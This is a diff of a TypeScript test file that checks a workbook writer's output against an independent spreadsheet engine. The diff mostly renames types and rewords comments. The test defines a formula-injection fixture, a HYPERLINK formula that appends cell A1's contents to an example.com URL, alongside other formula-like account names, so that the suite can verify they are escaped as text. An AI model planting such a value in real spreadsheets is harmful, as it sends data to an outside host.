@@ -5,14 +5,14 @@ import { cellName, modelWorkbook, tableWorkbook, type Workbook } from '@millpond
 import { HyperFormula } from 'hyperformula'
 import { describe, expect, it } from 'vitest'
 import { writeWorkbook } from '../src/platform/workbook/write-workbook.ts'
-import { type FileCell, type FileSheet, readWorkbook } from './_read-workbook.ts'
+import { type ReadCell, type ReadSheet, readWorkbook } from './_read-workbook.ts'
 import { bytesOf, sampleForecast } from './_sample-forecast.ts'
 
 /** The hidden sheets have their months from the column F on, the others right of their labels. */
 const FIRST_MONTH = 5
 const CODE_COLUMN = 1
 
-/** A name somebody gave an account so that a spreadsheet runs it. */
+/** A name of an account that a spreadsheet would run as a formula. */
 const EVIL = '=HYPERLINK("http://example.com/?"&A1,"Sales")'
 
 const { ledger, forecast } = sampleForecast()
@@ -25,8 +25,8 @@ const workbook = modelWorkbook(input, ['About', '=1+1', '@SUM(A1)', '-2 & more <
 const written = async (content: Workbook = workbook) =>
   readWorkbook(await bytesOf(await writeWorkbook(content)))
 
-/** The file as a spreadsheet engine that nobody here wrote computes it. */
-function recalculated(sheets: readonly FileSheet[]) {
+/** The file as an independent spreadsheet engine computes it. */
+function recalculated(sheets: readonly ReadSheet[]) {
   const engine = HyperFormula.buildEmpty({ licenseKey: 'gpl-v3' })
   for (const { name } of sheets) engine.addSheet(name)
   engine.suspendEvaluation()
@@ -43,13 +43,13 @@ function recalculated(sheets: readonly FileSheet[]) {
     engine.getCellValue({ sheet: engine.getSheetId(name) ?? -1, row, col: column })
 }
 
-/** An apostrophe is how a spreadsheet is told that what follows is text. */
-const raw = (cell: FileCell): string | number => {
+/** An apostrophe marks what follows as text in a spreadsheet. */
+const raw = (cell: ReadCell): string | number => {
   if (cell.kind === 'number') return cell.number
   return cell.kind === 'formula' ? `=${cell.formula}` : `'${cell.text}`
 }
 
-const rowNamed = (sheet: FileSheet | undefined, column: number, words: string): number => {
+const rowNamed = (sheet: ReadSheet | undefined, column: number, words: string): number => {
   for (const [address, cell] of sheet?.cells ?? []) {
     const row = Number(/\d+$/.exec(address)) - 1
     const isThere = cell.kind === 'text' && cell.text === words
